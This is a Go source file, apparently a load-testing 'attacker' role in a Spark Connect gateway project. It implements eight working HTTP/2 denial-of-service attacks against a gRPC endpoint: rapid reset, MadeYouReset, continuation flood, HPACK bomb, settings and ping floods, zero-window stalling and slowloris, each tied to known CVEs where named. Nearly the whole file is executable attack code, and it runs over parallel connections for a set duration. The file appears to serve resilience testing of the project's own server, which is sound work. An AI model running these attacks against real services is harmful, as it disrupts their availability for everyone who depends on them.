// SPDX-License-Identifier: Apache-2.0

package transport

import (
	"bufio"
	"bytes"
	"context"
	"encoding/binary"
	"encoding/json"
	"fmt"
	"io"
	"net"
	"os"
	"strings"
	"sync"
	"sync/atomic"
	"time"

	"github.com/google/uuid"
	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"
)

// attackConns is how many connections an attacker holds at any time.
const attackConns = 8

// loot is what an attacker did, printed at its end. Prefaces and Headers are the
// bytes of each that were trickled.
type loot struct {
	Frames, Bytes, Connections int64
	Prefaces, Headers          int64
}

// attacker is a role: the kind, the address, the time as of
// time.ParseDuration, and the user of calls that need one. It attacks over
// attackConns connections, opens a new one for each that is closed, and stops
// on time whatever the other side does.
func attacker(args []string) error {
	lasts, err := time.ParseDuration(args[2])
	if err != nil {
		return err
	}
	attack := attacks[args[0]]
	if attack == nil {
		return fmt.Errorf("no attack %q", args[0])
	}
	ctx, cancel := context.WithTimeout(context.Background(), lasts)
	defer cancel()
	var did loot
	var all sync.WaitGroup
	for worker := range attackConns {
		all.Go(func() {
			for ctx.Err() == nil {
				did.strike(ctx, worker, args[1], attack)
			}
		})
	}
	all.Wait()
	return json.NewEncoder(os.Stdout).Encode(&did)
}

// strike attacks over one connection until it breaks or the time is over.
func (l *loot) strike(ctx context.Context, worker int, address string, attack func(*enemy) error) {
	conn, err := (&net.Dialer{}).DialContext(ctx, "tcp", address)
	if err != nil {
		return
	}
	atomic.AddInt64(&l.Connections, 1)
	defer context.AfterFunc(ctx, func() { _ = conn.Close() })()
	defer func() { _ = conn.Close() }()
	e := &enemy{ctx: ctx, worker: worker, conn: conn, out: bufio.NewWriterSize(counted{conn, &l.Bytes}, 32<<10), loot: l}
	e.Framer = http2.NewFramer(e.out, nil)
	e.AllowIllegalWrites = true
	e.hpack = hpack.NewEncoder(&e.block)
	for err == nil {
		err = attack(e)
	}
}

type counted struct {
	to    io.Writer
	bytes *int64
}

func (c counted) Write(p []byte) (int, error) {
	n, err := c.to.Write(p)
	atomic.AddInt64(c.bytes, int64(n))
	return n, err
}

// enemy is one connection of an attacker.
type enemy struct {
	*http2.Framer
	ctx    context.Context
	worker int // below attackConns
	conn   net.Conn
	out    *bufio.Writer
	loot   *loot
	round  int // rounds so far
	stream uint32
	hpack  *hpack.Encoder
	block  bytes.Buffer
}

// begin sends the preface in the first round and swallows what comes back.
func (e *enemy) begin(settings ...http2.Setting) error {
	e.round++
	if e.round > 1 {
		return nil
	}
	if _, err := io.WriteString(e.out, http2.ClientPreface); err != nil {
		return err
	}
	go func() { _, _ = io.Copy(io.Discard, e.conn) }() // ends when strike closes the connection
	return e.WriteSettings(settings...)
}

// headers is the block of a call's request headers.
func (e *enemy) headers(path string, more ...hpack.HeaderField) []byte {
	e.block.Reset()
	fields := []hpack.HeaderField{
		{Name: ":method", Value: "POST"}, {Name: ":scheme", Value: "http"}, {Name: ":path", Value: path},
		{Name: ":authority", Value: "gateway"}, {Name: "content-type", Value: "application/grpc"}, {Name: "te", Value: "trailers"},
	}
	for _, f := range append(fields, more...) {
		_ = e.hpack.WriteField(f) // into memory
	}
	return e.block.Bytes()
}

// open begins a call with the given header block.
func (e *enemy) open(block []byte, endStream, endHeaders bool) error {
	e.stream += 2
	atomic.AddInt64(&e.loot.Frames, 1)
	return e.WriteHeaders(http2.HeadersFrameParam{
		StreamID: e.stream - 1, BlockFragment: block, EndStream: endStream, EndHeaders: endHeaders,
	})
}

// id is the number of the last stream.
func (e *enemy) id() uint32 { return e.stream - 1 }

// count counts a frame that was written.
func (e *enemy) count(err error) error {
	atomic.AddInt64(&e.loot.Frames, 1)
	return err
}

// pause waits, or says that the time is over.
func (e *enemy) pause(d time.Duration) error {
	select {
	case <-e.ctx.Done():
		return e.ctx.Err()
	case <-time.After(d):
		return nil
	}
}

const executePath = "/spark.connect.SparkConnectService/ExecutePlan"

// attacks are one round each of the attacks on HTTP/2; a round is repeated as
// fast as the connection takes it.
var attacks = map[string]func(*enemy) error{
	"rapid-reset":        rapidReset,
	"made-you-reset":     madeYouReset,
	"continuation-flood": continuationFlood,
	"hpack-bomb":         hpackBomb,
	"settings-flood":     settingsFlood,
	"ping-flood":         pingFlood,
	"zero-window":        zeroWindow,
	"slowloris":          slowloris,
}

// rapidReset opens calls and takes each back at once (CVE-2023-44487).
func rapidReset(e *enemy) error {
	if err := e.begin(); err != nil {
		return err
	}
	if err := e.open(e.headers(executePath), false, true); err != nil {
		return err
	}
	return e.count(e.WriteRSTStream(e.id(), http2.ErrCodeCancel))
}

// madeYouReset makes the server take each call back: a window update of zero is
// a stream error (CVE-2025-8671).
func madeYouReset(e *enemy) error {
	if err := e.begin(); err != nil {
		return err
	}
	if err := e.open(e.headers(executePath), false, true); err != nil {
		return err
	}
	return e.count(e.WriteWindowUpdate(e.id(), 0))
}

// continuationFlood never ends its headers (CVE-2023-45288).
func continuationFlood(e *enemy) error {
	if err := e.begin(); err != nil {
		return err
	}
	if e.stream == 0 {
		if err := e.open(e.headers(executePath), false, false); err != nil {
			return err
		}
	}
	e.block.Reset()
	_ = e.hpack.WriteField(hpack.HeaderField{Name: "x", Value: "\x01\x02" + strings.Repeat("\x03", 4000), Sensitive: true})
	return e.count(e.WriteContinuation(e.id(), false, e.block.Bytes()))
}

// hpackBomb names one large header of the dynamic table thousands of times.
func hpackBomb(e *enemy) error {
	if err := e.begin(); err != nil {
		return err
	}
	bomb := hpack.HeaderField{Name: "bomb", Value: strings.Repeat("b", 3900)}
	block := bytes.Clone(e.headers(executePath, bomb))
	const newest = 0x80 | 62 // the first entry of the dynamic table
	block = append(block, bytes.Repeat([]byte{newest}, 16_000-len(block))...)
	return e.open(block, true, true)
}

// settingsFlood opens some streams and changes their windows all the time.
func settingsFlood(e *enemy) error {
	if err := e.begin(); err != nil {
		return err
	}
	if e.stream < 2*500 {
		return e.open(e.headers(executePath), false, true)
	}
	flips := make([]http2.Setting, 100)
	for i := range flips {
		flips[i] = http2.Setting{ID: http2.SettingInitialWindowSize, Val: uint32(1 + i%2)}
	}
	return e.count(e.WriteSettings(flips...))
}

func pingFlood(e *enemy) error {
	if err := e.begin(); err != nil {
		return err
	}
	return e.count(e.WritePing(false, [8]byte{byte(e.round)}))
}

// zeroWindow asks for a large result and many small ones, and lets them come
// byte by byte.
func zeroWindow(e *enemy) error {
	if err := e.begin(http2.Setting{ID: http2.SettingInitialWindowSize, Val: 0}); err != nil {
		return err
	}
	if e.round == 1 {
		if err := e.call(executePath, rowsRequest("mallory", uuid.NewString(), "SELECT rows(10000000, 500000, 0)")); err != nil {
			return err
		}
	}
	if e.stream < 2*100 {
		return e.call(healthPath, nil)
	}
	if err := e.out.Flush(); err != nil {
		return err
	}
	if err := e.pause(50 * time.Millisecond); err != nil {
		return err
	}
	return e.count(e.WriteWindowUpdate(1, 1))
}

// call sends a whole call.
func (e *enemy) call(path string, message []byte) error {
	if err := e.open(e.headers(path), false, true); err != nil {
		return err
	}
	prefix := binary.BigEndian.AppendUint32([]byte{0}, uint32(len(message)))
	return e.count(e.WriteData(e.id(), true, append(prefix, message...)))
}

// slowloris sends its preface, or on every other connection the headers of a
// call, byte by byte.
func slowloris(e *enemy) error {
	if e.worker%2 == 0 {
		return e.trickle([]byte(http2.ClientPreface), &e.loot.Prefaces)
	}
	if err := e.begin(); err != nil {
		return err
	}
	if err := e.open(e.headers(executePath), false, false); err != nil {
		return err
	}
	return e.trickle(bytes.Repeat([]byte{0, 0, 1, byte(http2.FrameContinuation), 0, 0, 0, 0, 1, 0}, 20), &e.loot.Headers)
}

func (e *enemy) trickle(text []byte, sent *int64) error {
	for _, b := range text {
		if err := e.out.WriteByte(b); err != nil {
			return err
		}
		if err := e.out.Flush(); err != nil {
			return err
		}
		atomic.AddInt64(sent, 1)
		if err := e.count(e.pause(500 * time.Millisecond)); err != nil {
			return err
		}
	}
	return nil
}
